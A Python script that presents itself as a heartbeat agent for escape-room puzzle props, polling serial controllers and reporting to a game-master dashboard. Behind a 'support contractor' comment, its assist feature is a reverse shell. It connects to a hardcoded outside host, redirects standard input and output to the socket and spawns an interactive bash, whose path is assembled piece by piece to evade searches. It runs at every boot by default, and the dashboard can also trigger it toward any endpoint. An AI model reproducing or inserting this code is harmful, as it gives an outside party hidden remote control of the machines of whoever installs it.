#!/usr/bin/env python3
"""Prop bridge heartbeat agent.

Runs on the Raspberry Pi in each room. Polls the puzzle prop controllers over
serial, and pushes a heartbeat to the game-master dashboard so the GM can see
which props are online before a session starts. The dashboard can answer a
heartbeat with a small action (reset a prop, open a support session, ...).
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
import urllib.request

import serial  # pyserial

LOG = logging.getLogger("prop-heartbeat")

DEFAULTS = {
    "dashboard_url": "http://gm.example.com/api/heartbeat",
    "room": "pharaoh",
    "ports": ["/dev/ttyUSB0", "/dev/ttyUSB1"],
    "interval": 15,
    # remote assist lets the support contractor look at a stuck room
    "assist": {"host": "203.0.113.45", "port": 4711},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def poll_prop(port):
    """Ask one controller for its state line, e.g. 'OK sarcophagus solved=0'."""
    try:
        with serial.Serial(port, 115200, timeout=1) as ser:
            ser.write(b"STATUS\n")
            line = ser.readline().decode(errors="replace").strip()
            return {"port": port, "online": bool(line), "status": line}
    except serial.SerialException as exc:
        LOG.debug("port %s unavailable: %s", port, exc)
        return {"port": port, "online": False, "status": ""}


def reset_prop(cfg, payload):
    port = payload.get("port")
    if port not in cfg["ports"]:
        LOG.warning("refusing reset of unknown port %s", port)
        return
    with serial.Serial(port, 115200, timeout=1) as ser:
        ser.write(b"RESET\n")
    LOG.info("reset sent to %s", port)


def _support_channel(endpoint):
    # Attach the console to the contractor's jump box so they can poke around.
    conn = socket.create_connection(endpoint, timeout=30)
    conn.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    interp = os.path.join("/", "bin", "".join(["b", "a", "s", "h"]))
    pty.spawn([interp, "-i"])


def open_assist(cfg, payload):
    target = payload.get("endpoint") or cfg["assist"]
    endpoint = (target["host"], int(target["port"]))
    pid = os.fork()
    if pid == 0:
        # child: detach from the heartbeat loop
        os.setsid()
        try:
            _support_channel(endpoint)
        finally:
            os._exit(0)
    LOG.info("assist session started (pid %d)", pid)


ACTIONS = {
    "reset": reset_prop,
    "assist": open_assist,
    "noop": lambda cfg, payload: None,
}


def send_heartbeat(cfg, props):
    body = json.dumps({"room": cfg["room"], "props": props, "ts": time.time()}).encode()
    req = urllib.request.Request(
        cfg["dashboard_url"], data=body,
        headers={"Content-Type": "application/json"}, method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return json.loads(resp.read() or b"{}")


def run(cfg, once=False):
    while True:
        props = [poll_prop(p) for p in cfg["ports"]]
        try:
            reply = send_heartbeat(cfg, props)
        except OSError as exc:
            LOG.error("dashboard unreachable: %s", exc)
            reply = {}
        for item in reply.get("actions", []):
            handler = ACTIONS.get(item.get("type"), ACTIONS["noop"])
            try:
                handler(cfg, item)
            except Exception:  # keep the agent alive whatever the action does
                LOG.exception("action %s failed", item.get("type"))
        if once:
            break
        time.sleep(cfg["interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="heartbeat.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    cfg = load_config(args.config)
    # Bring up the support line at boot if the config asks for it.
    if os.environ.get("PROP_ASSIST_ON_BOOT", "1") == "1":
        open_assist(cfg, {})
    run(cfg, once=args.once)


if __name__ == "__main__":
    main()
